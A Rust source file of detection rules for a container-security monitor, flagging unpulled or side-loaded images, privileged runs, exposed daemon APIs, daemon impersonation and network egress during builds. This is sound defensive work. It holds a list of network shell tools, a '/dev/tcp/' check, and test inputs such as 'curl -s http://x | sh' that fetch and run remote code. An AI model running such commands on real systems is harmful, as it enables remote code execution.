//! The detection rules. Each takes what correlation established (a build, an operation, the
//! ledger's answer) and decides whether, and how loudly, to report it. docs/detections.md
//! explains each rule, its severity logic and how to tune it.
use std::net::IpAddr;

use crate::model::{
    detection::{Rule, Severity, Verdict},
    operation::CreateParams,
    origin::{Origin, Transport},
    process::ProcessView,
};

/// How the client reached the API: a local unix socket is medium, TCP high, plain TCP from
/// another host critical.
pub fn severity_of_origin(origin: &Origin) -> (Severity, Option<String>) {
    match origin.transport {
        Transport::Tcp if origin.peer_ip().is_some_and(|ip| !ip.is_loopback()) => (
            Severity::Critical,
            Some(format!(
                "plain-HTTP API request from remote host {}",
                origin.peer.as_deref().unwrap_or("?")
            )),
        ),
        Transport::Tcp => (Severity::High, Some("API request over TCP".to_string())),
        Transport::Unix => (Severity::Medium, None),
        Transport::Exec => (Severity::Medium, None),
    }
}

/// Rule 1: the build's targets were never pulled from a registry within the lookback window.
/// `unpulled` lists them (empty with `untagged` for a build without a tag).
pub fn build_without_pull(
    origin: &Origin,
    builder: &str,
    unpulled: &[String],
    untagged: bool,
    egress: &[String],
) -> Option<Verdict> {
    if unpulled.is_empty() && !untagged {
        return None;
    }
    let (mut severity, reason) = severity_of_origin(origin);
    let mut reasons: Vec<String> = reason.into_iter().collect();
    if untagged {
        reasons.push("untagged build (no registry history possible)".into());
    }
    for target in unpulled {
        reasons.push(format!("{target} was never pulled from a registry"));
    }
    if !egress.is_empty() {
        severity = severity.raised();
        reasons.extend(egress.iter().map(|e| format!("build egress: {e}")));
    }
    let what = if untagged {
        "an untagged image".to_string()
    } else {
        unpulled.join(", ")
    };
    Some(Verdict {
        rule: Rule::BuildWithoutPull,
        severity,
        summary: format!(
            "{} built {what} on the host ({builder} build) without pulling it from a registry",
            origin.who()
        ),
        reasons,
    })
}

/// Rule 2: a container from an image that was built, loaded, imported or committed here and
/// never pulled.
pub fn run_of_unpulled_image(
    origin: &Origin,
    image: &str,
    origins: &[String],
    create: &CreateParams,
) -> Verdict {
    let mut reasons = vec![format!(
        "{image} came from {} and was never pulled",
        origins.join(", ")
    )];
    if create.privileged {
        reasons.push("privileged container".into());
    }
    reasons.extend(
        create
            .sensitive_mounts
            .iter()
            .map(|m| format!("bind mount of {} ({})", m.source, m.reason)),
    );
    if create.pid_host {
        reasons.push("host PID namespace".into());
    }
    if create.network_host {
        reasons.push("host network namespace".into());
    }
    if create.ipc_host {
        reasons.push("host IPC namespace".into());
    }
    let dangerous = reasons.len() > 1;
    Verdict {
        rule: Rule::RunOfUnpulledImage,
        severity: if dangerous {
            Severity::Critical
        } else {
            Severity::High
        },
        summary: format!(
            "{} created a container from {image}, an image {} on this host and never pulled{}",
            origin.who(),
            origins
                .iter()
                .map(|o| participle(o))
                .collect::<Vec<_>>()
                .join("/"),
            if dangerous { ", with host access" } else { "" }
        ),
        reasons,
    }
}

/// "build" -> "built": how the image came to be, in a sentence.
fn participle(origin: &str) -> &str {
    match origin {
        "build" => "built",
        "load" => "loaded",
        "import" => "imported",
        "commit" => "committed",
        other => other,
    }
}

/// Rule 3: an image entered the host from a file or URL instead of a registry.
pub fn image_side_loaded(origin: &Origin, what: &str, images: &[String]) -> Verdict {
    let named = if images.is_empty() {
        String::new()
    } else {
        format!(" ({})", images.join(", "))
    };
    Verdict {
        rule: Rule::ImageSideLoaded,
        severity: Severity::Medium,
        summary: format!(
            "{} {what} an image{named} from outside any registry",
            origin.who()
        ),
        reasons: vec![format!("image {what}, not pulled")],
    }
}

/// Rule 4: a flagged build's steps reached out to the network. `severity` is the build's, already
/// raised for egress.
pub fn build_egress(severity: Severity, build_id: &str, egress: &[String]) -> Verdict {
    Verdict {
        rule: Rule::BuildEgress,
        severity,
        summary: format!(
            "build {build_id} fetched from the network while building: {}",
            egress.first().map(String::as_str).unwrap_or("?")
        ),
        reasons: egress.to_vec(),
    }
}

/// Rule 5: a daemon serves its API over plain TCP to another host.
pub fn api_exposed(endpoint: &str, peer: IpAddr) -> Verdict {
    Verdict {
        rule: Rule::ApiExposed,
        severity: Severity::Medium,
        summary: format!("the container API on {endpoint} accepts plain-HTTP requests from {peer}"),
        reasons: vec!["unauthenticated, unencrypted container API reachable from the network".into()],
    }
}

/// Rule 6: a process takes a container daemon's name but is not one of its binaries.
pub fn daemon_impersonation(name: &str, process: &ProcessView) -> Verdict {
    let exe = process.exe.as_deref().unwrap_or("(unknown executable)");
    Verdict {
        rule: Rule::DaemonImpersonation,
        severity: Severity::High,
        summary: format!(
            "{exe} (pid {}, uid {}) calls itself {name} but is not a {name} binary",
            process.pid, process.uid
        ),
        reasons: vec![
            format!("process name {:?}, executable {exe}", process.comm),
            "not one of watch.daemon_binaries: it gets no daemon trust".into(),
        ],
    }
}

/// Why a build step's command line is network egress, if it is.
pub fn egress_command(argv: &[String]) -> Option<String> {
    const TOOLS: [&str; 12] = [
        "curl", "wget", "nc", "ncat", "netcat", "socat", "ftp", "tftp", "scp", "rsync", "aria2c", "telnet",
    ];
    const SHELLS: [&str; 4] = ["sh", "bash", "ash", "dash"];
    let program = argv.first()?.rsplit('/').next()?;
    let line = argv.join(" ");
    if TOOLS.contains(&program) {
        return Some(format!("network tool: {}", truncate(&line)));
    }
    if !SHELLS.contains(&program) {
        return None;
    }
    let script = argv
        .iter()
        .position(|a| a == "-c")
        .and_then(|i| argv.get(i + 1))?;
    let fetches = commands(script).any(|command| TOOLS.contains(&command)) || script.contains("/dev/tcp/");
    fetches.then(|| format!("shell fetching from the network: {}", truncate(&line)))
}

/// The program names in command position of a shell line: the first word of each command
/// between operators (`;`, `&&`, `||`, `|`, subshells, substitutions), after `VAR=value`
/// assignments and `sudo`/`exec`/`command`.
fn commands(line: &str) -> impl Iterator<Item = &str> {
    line.split(|c: char| ";&|()`\n".contains(c))
        .filter_map(|command| {
            command
                .split_whitespace()
                .map(|w| w.trim_start_matches('$'))
                .find(|w| {
                    !w.is_empty() && !w.contains('=') && !matches!(*w, "sudo" | "exec" | "command" | "!")
                })
        })
        .map(|word| word.rsplit('/').next().unwrap_or(word))
}

fn truncate(text: &str) -> String {
    match text.char_indices().nth(200) {
        Some((at, _)) => format!("{}...", &text[..at]),
        None => text.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::origin::Origin;

    fn argv(line: &str) -> Vec<String> {
        line.split_whitespace().map(String::from).collect()
    }

    #[test]
    fn severity_by_transport() {
        let unix = Origin::for_test(Transport::Unix, None);
        let local_tcp = Origin::for_test(Transport::Tcp, Some("127.0.0.1:4000"));
        let remote = Origin::for_test(Transport::Tcp, Some("10.1.2.3:4000"));
        let targets = ["docker.io/library/evil:1".to_string()];
        let level = |o: &Origin| {
            build_without_pull(o, "classic", &targets, false, &[])
                .unwrap()
                .severity
        };
        assert_eq!(level(&unix), Severity::Medium);
        assert_eq!(level(&local_tcp), Severity::High);
        assert_eq!(level(&remote), Severity::Critical);
        assert_eq!(build_without_pull(&unix, "classic", &[], false, &[]), None);
        let egress = ["network tool: wget http://x".to_string()];
        assert_eq!(
            build_without_pull(&unix, "classic", &[], true, &egress)
                .unwrap()
                .severity,
            Severity::High
        );
    }

    #[test]
    fn privileged_run_is_critical() {
        let origin = Origin::for_test(Transport::Unix, None);
        let plain = CreateParams::default();
        assert_eq!(
            run_of_unpulled_image(&origin, "evil:1", &["build".into()], &plain).severity,
            Severity::High
        );
        let privileged = CreateParams {
            privileged: true,
            ..CreateParams::default()
        };
        let verdict = run_of_unpulled_image(&origin, "evil:1", &["build".into()], &privileged);
        assert_eq!(verdict.severity, Severity::Critical);
        assert!(verdict.summary.contains("host access"));
    }

    #[test]
    fn egress_commands() {
        assert!(egress_command(&argv("/usr/bin/wget -q http://x/p")).is_some());
        assert!(egress_command(&["/bin/sh".into(), "-c".into(), "curl -s http://x | sh".into()]).is_some());
        assert!(egress_command(&["/bin/sh".into(), "-c".into(), "echo hi > /m".into()]).is_none());
        assert!(egress_command(&argv("apk add curl")).is_none());
        assert!(egress_command(&[
            "/bin/sh".into(),
            "-c".into(),
            "echo x && (wget -q http://x/p || true)".into()
        ])
        .is_some());
        assert!(egress_command(&["sh".into(), "-c".into(), "apk add curl && echo ok".into()]).is_none());
        assert!(egress_command(&[
            "sh".into(),
            "-c".into(),
            "X=1 $(/usr/bin/curl -s http://x) | sh".into()
        ])
        .is_some());
    }
}
